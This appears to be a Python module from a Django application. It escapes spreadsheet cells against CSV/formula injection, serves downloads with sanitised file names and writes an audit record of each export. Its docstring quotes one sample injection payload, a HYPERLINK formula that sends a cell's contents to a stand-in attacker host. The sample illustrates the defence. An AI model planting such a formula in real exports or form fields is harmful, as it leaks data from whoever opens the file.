"""Writing CSV and XLSX exports that a spreadsheet cannot be tricked into running, and
recording who downloaded what.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice and Google Sheets as a formula: a person's name, a comment or
a free-text answer such as ``=HYPERLINK("http://evil.example/?"&A2, "open")`` would run
on the machine of whoever opens the export. Every export passes its cells through
``csv_row`` or ``xlsx_row``, which prefix such text with a single quote (OWASP's advice
for CSV injection): the spreadsheet shows it as text, and the import strips the quote
again (``unescape``), so an export re-imports unchanged. Real numbers, dates and
booleans stay what they are; only text is escaped.

The escaping is plain Python; ``record_export`` writes the audit event every export
and file download must leave (who, which export, with which filters, when), and
``download`` is the one way a view answers with a file: the content type of its
format, ``Content-Disposition: attachment`` with a safe file name, and that audit
event. CSV, XLSX (``xlsx_bytes``) and PDF (``core.pdf``) downloads all go through it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import IO, TYPE_CHECKING, Any

if TYPE_CHECKING:
    from django.contrib.auth.base_user import AbstractBaseUser
    from django.db import models
    from django.http import FileResponse, HttpRequest, HttpResponse

    from bellwether.core.models import Organisation

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot hold: openpyxl refuses to write them (a 500 on export).
_ILLEGAL_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_KEPT = (bool, int, float, Decimal, datetime, date, time, timedelta)

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pdf": "application/pdf",
    "ics": "text/calendar; charset=utf-8",
}
# What a file name in a Content-Disposition header may hold (anything else becomes "-").
_UNSAFE_FILENAME = re.compile(r"[^A-Za-z0-9._-]")


def escape(text: str) -> str:
    """``text`` as a spreadsheet shows it without evaluating it."""
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def unescape(text: str) -> str:
    """Undo ``escape`` (only where it acted: a quote before a formula trigger)."""
    if text[:1] == "'" and text[1:2] != "" and text[1:2] in FORMULA_TRIGGERS:
        return text[1:]
    return text


def cell(value: Any) -> Any:
    """One cell's value: numbers, dates, booleans and empty cells as they are; anything
    else as escaped text."""
    if value is None or isinstance(value, _KEPT):
        return value
    return escape(value if isinstance(value, str) else str(value))


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [cell(value) for value in values]


def csv_rows(rows: Iterable[Iterable[Any]]) -> Iterable[list[Any]]:
    return (csv_row(row) for row in rows)


def xlsx_row(values: Iterable[Any]) -> list[Any]:
    """As ``csv_row``, without the control characters an XLSX file cannot hold."""
    out = []
    for value in values:
        value = cell(value)
        if isinstance(value, str):
            value = _ILLEGAL_IN_XLSX.sub("", value)
        out.append(value)
    return out


def csv_bytes(rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """A whole CSV export, escaped, as UTF-8 (with a BOM so Excel reads it as UTF-8)."""
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(csv_rows(rows))
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8", "replace")


def xlsx_bytes(rows: Iterable[Iterable[Any]], *, title: str) -> bytes:
    """A one-sheet workbook of ``rows`` (escaped), streamed as it is written."""
    from openpyxl import Workbook  # heavy; only loaded for a workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title)
    for row in rows:
        sheet.append(xlsx_row(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def table_bytes(rows: Iterable[Iterable[Any]], *, fmt: str, title: str) -> bytes:
    """``rows`` as a CSV (``fmt`` "csv") or a one-sheet workbook named ``title``."""
    return csv_bytes(rows) if fmt == "csv" else xlsx_bytes(rows, title=title)


# --- downloads ----------------------------------------------------------------------------------


def attachment(content: bytes, *, fmt: str, filename: str) -> HttpResponse:
    """``content`` as a file to save: its format's content type and a safe file name."""
    from django.http import HttpResponse

    response = HttpResponse(content, content_type=CONTENT_TYPES[fmt])
    safe = _UNSAFE_FILENAME.sub("-", filename) or f"download.{fmt}"
    response["Content-Disposition"] = f'attachment; filename="{safe}"'
    return response


@dataclass(frozen=True)
class Audit:
    """The audit event a download leaves: which ``action``, by whom, of what."""

    action: str
    organisation: Organisation | None
    actor: AbstractBaseUser | None
    target: models.Model | None = None
    filters: Mapping[str, Any] | None = None
    rows: int | None = None
    details: Mapping[str, Any] | None = None

    @classmethod
    def by(cls, member: Any, action: str, **what: Any) -> Audit:
        """The download of ``member`` (a Membership: typed loosely because core imports no
        app), in its organisation; ``what`` as for the class (target, filters, rows...)."""
        return cls(action, member.organisation, member.user, **what)

    def record(self, request: HttpRequest | None, *, fmt: str) -> None:
        record_export(
            action=self.action,
            organisation=self.organisation,
            actor=self.actor,
            request=request,
            target=self.target,
            fmt=fmt,
            filters=self.filters,
            rows=self.rows,
            details=self.details,
        )


def download(
    request: HttpRequest, content: bytes, *, fmt: str, filename: str, audit: Audit
) -> HttpResponse:
    """The one way a view answers with a file it made (CSV, XLSX, PDF): the response
    (``attachment``) and the audit event of the download."""
    response = attachment(content, fmt=fmt, filename=filename)
    audit.record(request, fmt=fmt)
    return response


def stored_file_download(
    request: HttpRequest, stored: IO[bytes], *, filename: str, audit: Audit
) -> FileResponse:
    """A file someone uploaded, streamed back as an attachment, its download audited
    (the format recorded is the file name's extension)."""
    from django.http import FileResponse

    audit.record(
        request, fmt=filename.rsplit(".", 1)[-1].lower()[:10] if "." in filename else "file"
    )
    return FileResponse(stored, as_attachment=True, filename=filename)


# --- auditing ------------------------------------------------------------------------------


def record_export(
    *,
    action: str,
    organisation: Organisation | None,
    actor: AbstractBaseUser | None,
    fmt: str,
    request: HttpRequest | None = None,
    target: models.Model | None = None,
    filters: Mapping[str, Any] | None = None,
    rows: int | None = None,
    details: Mapping[str, Any] | None = None,
) -> None:
    """Write the audit event of one export or download: who (``actor``, or the command
    line when there is none), what (``action``, ``target``, ``fmt``, the ``filters`` the
    export was made with, how many ``rows``), when (the event's time) and from where."""
    # Imported here: the escaping above is plain Python used by pure modules (the
    # import's checks) that must not pull in the database.
    from bellwether.core import audit

    data: dict[str, Any] = {"format": fmt, "filters": _plain(filters or {})}
    if rows is not None:
        data["rows"] = rows
    data.update(_plain(details or {}))
    audit.record(
        action=action,
        organisation=organisation,
        actor=actor,
        actor_label="" if actor is not None else "command line",
        target=target,
        details=data,
        request=request,
    )


def _plain(values: Mapping[str, Any]) -> dict[str, Any]:
    """Filters as JSON-safe values (ids, text), never longer than an audit row needs."""
    out: dict[str, Any] = {}
    for key, value in values.items():
        if value is None or value == "" or value == []:
            continue
        if isinstance(value, bool | int | float):
            out[str(key)] = value
        elif isinstance(value, Sequence) and not isinstance(value, str):
            out[str(key)] = [str(item)[:200] for item in value][:50]
        else:
            out[str(key)] = str(value)[:200]
    return out
